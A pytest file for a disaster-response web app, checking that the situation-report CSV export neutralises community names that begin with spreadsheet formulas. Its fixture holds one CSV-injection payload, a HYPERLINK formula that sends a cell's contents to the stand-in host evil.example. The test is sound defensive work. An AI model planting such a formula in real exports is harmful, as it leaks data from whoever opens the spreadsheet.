"""The situation report's CSV: names from imports never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from disaster import accounts
from disaster.access import cli_actor
from disaster.communities import Community
from tests.disaster.assessment.factories import build_region, open_event, report, warn
from web.app import create_app
from web.config import Settings

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.fixture
def site(database_url, tmp_path, monkeypatch):
    """An app whose warned, reporting community is named with a formula."""
    monkeypatch.setenv("DISASTER_HOME", str(tmp_path))
    app = create_app(Settings(home=tmp_path, database_url=database_url,
                              secret_key="sitrep-csv-test"))
    app.config.update(TESTING=True)
    with app.extensions["disaster_runtime"].sessions() as session:
        region = build_region(session)
        event = open_event(session)
        warn(session, region.communities[0], "red", 230.0)
        report(session, event, region.communities[0], affected_people=250)
        session.execute(update(Community).where(Community.code == region.communities[0])
                        .values(name=EVIL))
        user = accounts.add_user(session, cli_actor(), "admin", "admin")
        session.commit()
        event_code, user_id = event.code, user.id
    yield app, region, event_code, user_id
    app.extensions["disaster_runtime"].engine.dispose()


def test_community_names_starting_a_formula_are_neutralised(site):
    app, region, event, user_id = site
    client = app.test_client()
    with client.session_transaction() as s:
        s["_user_id"] = str(user_id)
        s["_fresh"] = True
    table = client.get(f"/sitrep/{event}/communities.csv")
    assert table.status_code == 200
    rows = list(csv.DictReader(io.StringIO(table.get_data(as_text=True).lstrip("\ufeff"))))
    row = next(r for r in rows if r["code"] == region.communities[0])
    assert row["name"] == "'" + EVIL
    assert row["reported_affected_people"] == "250"
    assert not any(v.startswith(("=", "@", "+")) for r in rows for v in r.values() if v)
